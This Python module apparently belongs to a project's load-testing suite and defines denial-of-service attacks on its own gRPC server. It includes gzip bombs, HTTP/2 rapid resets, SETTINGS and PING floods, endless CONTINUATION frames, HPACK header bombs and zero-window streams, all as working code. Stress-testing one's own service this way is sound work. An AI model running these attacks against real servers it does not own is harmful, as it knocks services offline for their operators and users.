"""Attacks on gRPC: by its own library, and by frames of HTTP/2 that no library sends."""

import asyncio
import contextlib
import gzip
import itertools
from collections.abc import Awaitable, Callable

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from attend.v1 import generation_pb2 as pb
from loadtest.faults.attack import Attack, Run, add, attack
from loadtest.faults.attacker import PAUSE, Attacker
from loadtest.faults.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    MAX_PAYLOAD,
    PING,
    RST_STREAM,
    Http2,
    field,
    fields,
    frame,
    http2,
    message,
    settings,
)

LONG = pb.GenerateRequest(text="def f(", max_tokens=900, stopping=pb.StoppingCriteria(ignore_eos=True))
_numbers = itertools.count()
Pieces = Callable[[Attacker, int], bytes]
"""The frames of a turn, by its number."""


@attack()
async def refused_token_ids(a: Attacker) -> None:
    """3.9 MB of token ids over gRPC, the last of them wrong"""
    request = pb.GenerateRequest(token_ids=pb.TokenIds(ids=[300] * 1_900_000 + [1 << 40]), max_tokens=1)
    await a.repeat(lambda: a.rpc("Generate", request), 4)


@attack()
async def health_watches(a: Attacker) -> None:
    """watches of grpc.health.v1 that need no key, 512 at a time"""
    async with grpc.aio.insecure_channel(a.target.address.grpc) as channel:
        stub = health_pb2_grpc.HealthStub(channel)

        async def one() -> None:
            try:
                async for _ in stub.Watch(health_pb2.HealthCheckRequest(), metadata=[("application", "default")]):
                    a.outcomes["watching"] += 1
            except grpc.RpcError as error:
                a.outcomes[error.code().name] += 1

        await a.repeat(one, 512)


@attack(fills=True)
async def cancelled_rpcs(a: Attacker) -> None:
    """streams over gRPC that are cancelled at once, or with the first message, 64 at a time"""

    async def one() -> None:
        call = a.stub.GenerateStream(LONG, metadata=a.metadata())
        with contextlib.suppress(grpc.RpcError):
            await (call.read() if next(_numbers) % 2 else asyncio.sleep(0.002))
        call.cancel()
        a.outcomes["cancelled"] += 1

    await a.repeat(one, 64)


async def over_frames(a: Attacker, job: Callable[[Http2], Awaitable[None]], at_once: int, *, reads: bool = True) -> None:
    """Connections by hand, so many at once; `job` goes on with each until the server ends it."""

    async def one() -> None:
        with contextlib.suppress(TimeoutError, asyncio.IncompleteReadError):
            async with http2(a, reads=reads) as connection:
                a.outcomes["connected"] += 1
                await job(connection)

    await a.repeat(one, at_once)


@attack()
async def grpc_gzip_bombs(a: Attacker) -> None:
    """messages over gRPC of 56 MiB in 56 KB of gzip, 8 connections at a time"""
    data = message(gzip.compress(pb.TokenizeRequest(text=" " * (56 << 20)).SerializeToString()), is_compressed=True)

    async def job(connection: Http2) -> None:
        start = fields(a, "Tokenize", [("grpc-encoding", "gzip")])
        pieces = [data[at : at + MAX_PAYLOAD] for at in range(0, len(data), MAX_PAYLOAD)]
        ends = [*([0] * (len(pieces) - 1)), END_STREAM]
        parts = [frame(DATA, end, 1, piece) for end, piece in zip(ends, pieces, strict=True)]
        await connection.send(frame(HEADERS, END_HEADERS, 1, start), *parts)
        a.outcomes["sent"] += 1
        await asyncio.sleep(0.5)

    await over_frames(a, job, 8)


@attack(fills=True)
async def streams_without_a_window(a: Attacker) -> None:
    """gRPC streams with a flow-control window of 0, 50 on each of 2 connections"""
    data = message(LONG.SerializeToString())

    async def one() -> None:
        with contextlib.suppress(TimeoutError, asyncio.IncompleteReadError):
            async with http2(a, window=0) as connection:
                for stream in range(1, 101, 2):
                    start = frame(HEADERS, END_HEADERS, stream, fields(a, "GenerateStream"))
                    await connection.send(start, frame(DATA, END_STREAM, stream, data))
                a.outcomes["unread"] += 50
                await asyncio.sleep(60)

    await a.repeat(one, 2)


def repeat_frames(first: Pieces, piece: Pieces, at_once: int = 4, *, reads: bool = True) -> Run:
    """Connections that send the first frames, and then a piece again and again; each is made of the number of its turn."""

    async def run(a: Attacker) -> None:
        async def job(connection: Http2) -> None:
            await connection.send(first(a, 0))
            for number in itertools.count():
                await connection.send(piece(a, number))
                a.outcomes["sent"] += 1
                await asyncio.sleep(PAUSE)

        await over_frames(a, job, at_once, reads=reads)

    return run


def nothing(a: Attacker, number: int) -> bytes:
    """No frames."""
    return b""


def silent(a: Attacker, number: int) -> bytes:
    """A hundred calls whose message never comes."""
    return b"".join(frame(HEADERS, END_HEADERS, stream, fields(a, "Generate")) for stream in range(1, 201, 2))


def silent_without_key(a: Attacker, number: int) -> bytes:
    """The same without a key."""
    return silent(a, number).replace(b"\rauthorization", b"\rx-no-key-sent")


def reset(a: Attacker, number: int) -> bytes:
    """Fifty streams that are reset as soon as they are opened."""
    start, data = fields(a, "GenerateStream"), message(LONG.SerializeToString())
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, start)
        + frame(DATA, END_STREAM, stream, data)
        + frame(RST_STREAM, 0, stream, bytes(4))
        for stream in range(100 * number + 1, 100 * number + 101, 2)
    )


def bomb(a: Attacker, number: int) -> bytes:
    """A call of 16 KB whose fields become 4 KB each."""
    start = fields(a, "Generate") + field("x-bomb", "y" * 3900, keep=True) + b"\xbe" * 12_000
    return frame(HEADERS, END_HEADERS, 2 * number + 1, start)


FRAMES: dict[str, tuple[str, Run]] = {
    "silent rpcs": ("1600 calls over 16 gRPC connections whose message never comes", repeat_frames(silent, nothing, 16)),
    "silent rpcs without a key": ("the same by callers who show no key", repeat_frames(silent_without_key, nothing, 16)),
    "rapid resets": (
        "streams of HTTP/2 that are reset as soon as they are opened, 50 at a time on 4 connections",
        repeat_frames(nothing, reset),
    ),
    "floods of settings": (
        "1000 SETTINGS and PING frames of HTTP/2 at a time, whose answers nobody reads, on 4 connections",
        repeat_frames(nothing, lambda a, n: (settings(_4=1000, _3=7) + frame(PING, payload=bytes(8))) * 1000, reads=False),
    ),
    "empty frames": (
        "1000 empty DATA frames of HTTP/2 at a time on an open call, on 4 connections",
        repeat_frames(
            lambda a, n: frame(HEADERS, END_HEADERS, 1, fields(a, "Generate")), lambda a, n: frame(DATA, 0, 1) * 1000
        ),
    ),
    "endless fields": (
        "fields of HTTP/2 that go on in CONTINUATION frames without end, on 4 connections",
        repeat_frames(
            lambda a, n: frame(HEADERS, 0, 1, fields(a, "Generate")),
            lambda a, n: frame(CONTINUATION, 0, 1, field("x-more", "y" * 8000)) * 16,
        ),
    ),
    "header bombs": (
        "HPACK bombs: calls of 16 KB whose fields become 4 KB each, on 4 connections",
        repeat_frames(nothing, bomb),
    ),
}
for _name, (_about, _run) in FRAMES.items():
    add(_name, Attack(_about, _run))
